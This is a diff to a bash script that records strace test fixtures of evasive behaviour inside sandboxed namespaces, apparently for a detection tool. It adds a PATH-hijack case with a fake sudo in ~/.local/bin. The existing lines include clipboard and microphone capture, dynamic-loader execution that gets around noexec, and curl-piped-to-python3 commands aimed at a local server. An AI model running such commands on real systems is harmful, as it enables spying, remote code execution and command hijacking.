@@ -1,6 +1,6 @@
 #!/bin/bash
 # Captures testdata/formats/strace/f_tt_T_y_io_uring_exfil.txt, f_tt_T_y_container_secrets.txt,
-# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt, f_tt_T_y_spy_tools.txt, f_tt_T_y_process_vm_readv.txt, f_tt_T_y_ldso_exec.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
+# f_tt_T_y_v_history_off.txt, f_tt_T_y_v_history_kept.txt, f_tt_T_y_daemon_masquerade.txt, f_tt_T_y_spy_tools.txt, f_tt_T_y_process_vm_readv.txt, f_tt_T_y_ldso_exec.txt, f_tt_T_y_path_hijack.txt and f_tt_T_y_s200_pipe_to_interpreter.txt: behaviour that hides
 # from a syscall trace or leaves no file behind, each run as uid 1001 in fresh pid, mount and
 # net namespaces (only `lo`; every connection goes to 127.0.0.1), a tmpfs home with FAKE
 # secrets (random text) and a tmpfs /run holding a fake Kubernetes service-account token and
@@ -26,6 +26,9 @@
 #   ldso_exec: a copy of id in /tmp without its execute bit run through the dynamic loader
 #     (/lib64/ld-linux-x86-64.so.2 /tmp/.cache-id): no execve of the file, as a noexec mount
 #     or a missing x bit would refuse it.
+#   path_hijack: a fake sudo written to ~/.local/bin and an ls copied to ~/bin (both ahead
+#     of /usr/bin in a login PATH); the negative: ~/.local/bin/flask, what pip install --user
+#     writes.
 #   pipe_to_interpreter: a Python "updater" whose os.system runs sh -c 'curl -fsS URL |
 #     python3 -' and sh -c 'python3 -c "$(curl -fsS URL)"' against an untraced python
 #     http.server on 127.0.0.1:18556 serving a one-line stage.
@@ -85,6 +88,10 @@ run f_tt_T_y_spy_tools.txt -f -tt -T -y -s 96 -e trace=process,network -- /bin/s
   'DISPLAY=:0 xclip -o -selection clipboard; arecord -q -d 1 -f cd /tmp/mic.wav; DISPLAY=:0 xclip -selection clipboard -i /dev/null'
 cp /usr/bin/id /tmp/.cache-id && chmod 644 /tmp/.cache-id
 run f_tt_T_y_ldso_exec.txt -f -tt -T -y -s 96 -- /bin/sh -c '/lib64/ld-linux-x86-64.so.2 /tmp/.cache-id -u'
+run f_tt_T_y_path_hijack.txt -f -tt -T -y -s 96 -e trace=process,file -- /bin/sh -c \
+  'mkdir -p $HOME/.local/bin $HOME/bin; printf "#!/bin/sh\nexec /usr/bin/sudo \"\$@\"\n" > $HOME/.local/bin/sudo;
+   chmod 755 $HOME/.local/bin/sudo; cp /bin/true $HOME/bin/ls; printf "#!/bin/sh\n" > $HOME/.local/bin/flask;
+   chmod 755 $HOME/.local/bin/flask'
 cat > $H/peek.py <<'PY'
 import ctypes, os, time
 class iovec(ctypes.Structure):
